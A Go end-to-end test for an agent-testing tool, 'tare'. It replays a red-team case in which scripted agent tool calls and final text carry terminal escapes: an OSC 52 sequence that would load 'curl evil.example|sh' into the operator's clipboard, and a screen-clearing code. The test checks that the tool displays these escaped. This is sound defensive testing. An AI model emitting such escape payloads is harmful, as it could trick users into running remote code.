package e2e

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// escScript is a model script whose tool call carries terminal escapes, as red-team F11 did:
// OSC 52 (which sets the clipboard to "curl evil.example|sh") and ESC[2J (clear the screen),
// in the command itself, in a file the check prints, and in the agent's last words.
const escScript = `
[[turn]]
text = "Writing the file."
shell = ["echo '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007 \u001b[2J \u009b31m' > raw.txt",
         "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\007 \\033[2J' > esc.txt"]

[[turn]]
text = "Done \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007."
`

// rawControl finds what must never reach the operator's terminal from an agent: ESC, BEL and
// the C1 controls (UTF-8 0xc2 0x80-0x9f).
var rawControl = regexp.MustCompile(`[\x1b\x07\x{80}-\x{9f}]`)

// TestAgentEscapesReachTheTerminalEscaped: a real Claude Code on tare's model server runs a
// tool call holding OSC 52 and ESC[2J. tare calibrate's and tare record's progress lines and
// reports hold none of those bytes but show them escaped ("\x1b]52;c;"), the dollars are
// labelled simulated, and the app (tare watch, in tmux with the clipboard open to
// applications) shows the tool call escaped and never sets the clipboard.
func TestAgentEscapesReachTheTerminalEscaped(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "esc.toml")
	project := filepath.Join(dir, "project")
	if err := os.WriteFile(script, []byte(escScript), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(project, 0o755); err != nil {
		t.Fatal(err)
	}
	r := newRun(t, "")
	out := filepath.Join(dir, "calibrate-run")
	noRaw := func(what, text string) {
		t.Helper()
		if loc := rawControl.FindStringIndex(text); loc != nil {
			t.Errorf("%s holds a raw control byte %q at %d:\n%q", what, text[loc[0]:loc[1]], loc[0], text)
		}
	}

	r.tare(t, "calibrate", "write esc.txt", "--side", "claude", "--script", script, "--runs", "1", "--jobs", "1",
		"--project", project, "--out", out, "--check", "cat esc.txt; exit 1")
	if r.code != 0 {
		t.Fatalf("calibrate: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	noRaw("calibrate's progress lines", r.stderr)
	noRaw("calibrate's report", r.stdout)
	if !strings.Contains(r.stderr, `Bash echo '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 \x1b[2J \u009b31m'`) {
		t.Errorf("calibrate's progress lines do not show the tool call escaped:\n%s", r.stderr)
	}
	if !strings.Contains(r.stderr, `check exit 1: \x1b]52;c;`) {
		t.Errorf("calibrate's progress lines do not show the check's output escaped:\n%s", r.stderr)
	}
	if !strings.Contains(r.stdout, "simulated: tare's model server") {
		t.Errorf("calibrate's report does not label its dollars simulated:\n%s", r.stdout)
	}
	report, err := os.ReadFile(filepath.Join(out, "report.txt"))
	if err != nil {
		t.Fatal(err)
	}
	noRaw("report.txt", string(report))

	r.tare(t, "record", "write esc.txt", "--side", "claude", "--script", script, "--project", project, "--out", filepath.Join(dir, "record-run"))
	if r.code != 0 {
		t.Fatalf("record: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	noRaw("record's progress lines", r.stderr)
	noRaw("record's report", r.stdout)
	if !strings.Contains(r.stdout, `\x1b]52;c;`) || !strings.Contains(r.stderr, `\x1b]52;c;`) {
		t.Errorf("record does not show the step escaped:\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}

	// The app on that run, in a terminal that lets applications set the clipboard.
	wd := repoDir()
	// The app waits for a line on its terminal, so the clipboard is open before it draws.
	argv := append([]string{"/bin/sh", "-c", `read _; exec "$@"`, "sh", "env", "-i"}, r.env()...)
	x := startTmux(t, wd, append(argv, "TERM=tmux-256color", tareBin, "watch", out)...)
	if b, err := x.cmd("set-option", "-s", "set-clipboard", "on").CombinedOutput(); err != nil {
		t.Fatalf("tmux set-clipboard: %v\n%s", err, b)
	}
	x.keys("Enter")
	x.waitText(10*time.Second, "Tails of ", "a-0")
	x.keys("Enter")
	screen := x.waitText(10*time.Second, "tail a-0", "Tool calls", `\x1b]52;c;`)
	if !strings.Contains(screen, `\x1b[2J`) {
		t.Errorf("the tail view does not show ESC[2J escaped:\n%s", screen)
	}
	if b, _ := x.cmd("list-buffers").CombinedOutput(); len(strings.TrimSpace(string(b))) > 0 {
		t.Errorf("the agent set the clipboard through the app: %s", b)
	}
	x.keys("q")
	x.exited(10 * time.Second)
}
